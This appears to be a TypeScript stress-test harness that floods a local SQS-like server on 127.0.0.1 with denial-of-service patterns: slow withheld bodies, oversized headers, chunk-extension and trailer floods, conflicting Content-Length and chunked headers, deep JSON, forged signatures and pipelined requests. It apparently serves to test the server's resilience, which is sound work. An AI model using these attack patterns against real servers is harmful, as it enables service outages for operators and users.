/**
 * A program that attacks a server on 127.0.0.1 in every way at once, from many addresses of this machine, until its
 * standard input ends: `attacker.ts <port> <token of a consumer> <id of an access key> [attack...]`. What is closed is
 * opened again.
 *
 * @module
 */
import type { Socket } from 'node:net';
import { chunksOfOneByte, forgedSignature, head, open, post } from './attacks.ts';

const [port = '0', token = '', key = '', ...only] = process.argv.slice(2);
const MIB = 1_048_576;
/** The part of all places that is used, but one of each at least. */
const share = Number(process.env['KARIN_ATTACK_SHARE'] ?? 1);
/**
 * Between two connections of one place, ms: what is refused at once must not become a race of connecting alone. So the
 * places of what is answered at once are few: each is two attacks a second.
 */
const PAUSE_MS = 500;

interface Attack {
  /** Connections at one time. */
  readonly places: number;
  /** Of each connection, or made for each. */
  readonly bytes: string | (() => string);
  /** Reads nothing of what comes. */
  readonly deaf?: boolean;
}

const receive = JSON.stringify({ QueueUrl: 'large', MaxNumberOfMessages: 10, VisibilityTimeout: 0 });
const poll = JSON.stringify({ QueueUrl: 'jobs', WaitTimeSeconds: 20, VisibilityTimeout: 0 });
const json = (action: string, body: string): string =>
  post(`/k/${token}/`, body, { type: 'application/x-amz-json-1.0', headers: [`X-Amz-Target: AmazonSQS.${action}`] });
const form = (piece: string): string =>
  post('/', `q=/k/&QueueUrl=${piece.repeat(Math.floor((4.2 * MIB) / piece.length))}`);

const largeHeader = `A: ${'x'.repeat(30_000)}`;
const chunked = ['Transfer-Encoding: chunked', 'Content-Type: application/x-www-form-urlencoded'];
const parameters = Array.from({ length: 4_000 }, (_, n) => `${n.toString(36)}=`).join('&');
const presigned = `X-Amz-Credential=${key}/a/b/sqs/aws4_request&X-Amz-Signature=a&`.repeat(300);
/** Sixteen are taken, so these are not refused for their number. */
const PIPELINED = 16;
let attempts = 0;
const attempt = (): string => {
  attempts += 1;
  const ReceiveRequestAttemptId = `attempt-${attempts}`;
  return JSON.stringify({ QueueUrl: 'ordered.fifo', VisibilityTimeout: 1, ReceiveRequestAttemptId });
};

const ATTACKS: Readonly<Record<string, Attack>> = {
  'forms-plus': { places: 2, bytes: form('+') },
  'forms-ampersand': { places: 2, bytes: form('&') },
  'log-ins': { places: 4, bytes: post('/ops/login', 'a&'.repeat(655_000)) },
  chunks: { places: 2, bytes: chunksOfOneByte('/', 800_000) },
  'chunks-caller': { places: 1, bytes: chunksOfOneByte(`/k/${token}/`, 800_000) },
  'large-bodies': { places: 120, bytes: post('/', `q=${'x'.repeat(1_300_000)}`, { withheld: 1 }) },
  'large-bodies-beside': { places: 120, bytes: post('/sync', 'x'.repeat(1_300_000), { withheld: 1 }) },
  'small-bodies': { places: 3_000, bytes: post('/', `q=${'x'.repeat(16_000)}`, { withheld: 1 }) },
  heads: { places: 3_000, bytes: `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nA: ${'x'.repeat(16_000)}` },
  idle: { places: 4_096, bytes: '' },
  'slow-readers': { places: 16, bytes: json('ReceiveMessage', receive), deaf: true },
  'long-pollers': { places: 1_000, bytes: json('ReceiveMessage', poll) },
  options: {
    places: 10,
    bytes: head('OPTIONS /', [`Access-Control-Request-Headers: ${'a,'.repeat(1_000)}`]).repeat(PIPELINED),
  },
  'head-requests': { places: 10, bytes: head('HEAD /ops').repeat(PIPELINED) },
  upgrades: { places: 20, bytes: head('GET /', ['Connection: Upgrade', 'Upgrade: websocket']) },
  tunnels: { places: 20, bytes: `CONNECT a:1 HTTP/1.1\r\nHost: a:1\r\n\r\n${'x'.repeat(MIB)}` },
  extensions: {
    places: 10,
    bytes: `${head(`POST /k/${token}/`, chunked)}${`1;${'e'.repeat(15_000)}\r\na\r\n`.repeat(60)}`,
  },
  trailers: { places: 10, bytes: `${head(`POST /k/${token}/`, chunked)}0\r\n${'A: b\r\n'.repeat(4_000)}` },
  'two-lengths': { places: 10, bytes: `${head('POST /', ['Content-Length: 5', ...chunked])}0\r\n\r\n` },
  'long-queries': { places: 10, bytes: () => head(`GET /?${parameters}`, forgedSignature(key, true)) },
  'presigned-again': { places: 10, bytes: head(`GET /?${presigned}`) },
  'two-credentials': { places: 20, bytes: head('GET /', ['Authorization: Bearer a', 'Authorization: Bearer b']) },
  'signed-again': {
    places: 10,
    bytes: () =>
      head('GET /', [`A: ${'x'.repeat(14_000)}`, ...forgedSignature(key, true, `host;${'a;'.repeat(7_000)}`)]),
  },
  'wrong-signatures': { places: 40, bytes: () => head('GET /', forgedSignature(key, true)).repeat(PIPELINED) },
  'claimed-bodies': {
    places: 30,
    bytes: () => post('/', 'x'.repeat(1_000_000), { withheld: 1, headers: forgedSignature(key, false) }),
  },
  'claimed-long-bodies': {
    places: 4,
    bytes: () => post('/', 'x'.repeat(6 * MIB), { withheld: 1, headers: forgedSignature(key, false) }),
  },
  'large-heads': { places: 1_000, bytes: post('/', 'x', { withheld: 1, headers: [largeHeader] }) },
  'large-heads-of-guesses': { places: 500, bytes: head('GET /', [largeHeader, 'Authorization: Bearer guess']) },
  pipelined: { places: 10, bytes: head('GET /healthz').repeat(1_000) },
  'pipelined-caller': { places: 10, bytes: head(`GET /k/${token}/?Action=ListQueues`).repeat(1_000) },
  'deep-json': { places: 4, bytes: json('SendMessageBatch', '['.repeat(MIB)) },
  'large-batches': { places: 4, bytes: json('SendMessageBatch', `{"Entries":[${'0,'.repeat(MIB)}0]}`) },
  attempts: {
    places: 10,
    bytes: () => Array.from({ length: PIPELINED }, () => json('ReceiveMessage', attempt())).join(''),
  },
};

let opened = 0;
/** Each connection comes from one of so many addresses. */
const ADDRESSES = 200;

function place(attack: Attack): void {
  opened += 1;
  const socket: Socket = open(Number(port), `127.0.1.${1 + (opened % ADDRESSES)}`);
  if (attack.deaf === true) socket.pause();
  else socket.resume();
  const bytes = typeof attack.bytes === 'string' ? attack.bytes : attack.bytes();
  if (bytes !== '') socket.write(bytes);
  socket.once('close', () => setTimeout(() => place(attack), PAUSE_MS));
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  if (only.length > 0 && !only.includes(name)) continue;
  for (let n = 0; n < Math.max(1, attack.places * share); n += 1) place(attack);
}
process.stdin.on('end', () => process.exit(0)).resume();
console.log('attacking');
